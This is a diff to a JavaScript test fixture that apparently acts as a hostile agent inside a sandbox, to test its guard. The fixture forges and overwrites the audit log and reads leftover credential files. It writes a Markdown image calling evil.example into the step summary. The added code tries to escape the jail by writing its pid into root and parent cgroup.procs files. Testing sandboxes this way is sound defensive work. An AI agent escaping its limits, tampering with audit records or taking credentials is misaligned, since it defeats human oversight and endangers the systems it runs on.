@@ -4,7 +4,8 @@
 //   * sends requests whose routes and queries are Markdown images, HTML, table breaks and commands,
 //     so the audit, the step summary and the guard's log carry agent-chosen text;
 //   * tries to unlink, overwrite and replace the audit file, and to overwrite credential files;
-//   * reads every credential file other steps left, the guard's config and its mount table.
+//   * reads every credential file other steps left, the guard's config and its mount table;
+//   * tries to move itself out of the jail's cgroups (into the root, the parent, any cgroup it finds).
 // It prints one `EDGES {json}` line on stdout (UTF-8, after the encoded attacks) for the test.
 'use strict';
 const fs = require('node:fs');
@@ -73,6 +74,14 @@ function request(path) {
   tryWrite('forge audit', () => fs.writeFileSync(targets.audit, '{"route":"forged"}\n'));
   tryWrite('append audit', () => fs.appendFileSync(targets.audit, '{"route":"appended"}\n'));
   tryWrite('summary', () => fs.appendFileSync(targets.summary, '![x](https://evil.example/?q=summary)\n'));
+
+  // Out of the limits: write its own pid into every cgroup.procs it can name (v1 controllers, the v2
+  // tree, the parent of the cgroup it is in).
+  const own = fs.readFileSync('/proc/self/cgroup', 'utf8').trim().split('\n').map((l) => l.split(':')[2]).filter(Boolean);
+  const roots = ['/sys/fs/cgroup', '/sys/fs/cgroup/memory', '/sys/fs/cgroup/pids', '/sys/fs/cgroup/unified'];
+  const procs = new Set(roots.map((r) => `${r}/cgroup.procs`));
+  for (const r of roots) for (const c of own) procs.add(`${r}${c.replace(/\/[^/]*$/, '')}/cgroup.procs`);
+  for (const file of procs) tryWrite(`cgroup ${file}`, () => fs.writeFileSync(file, `${process.pid}\n`));
 
   process.stdout.write(`\nEDGES ${JSON.stringify(report)}\n`);
 })();
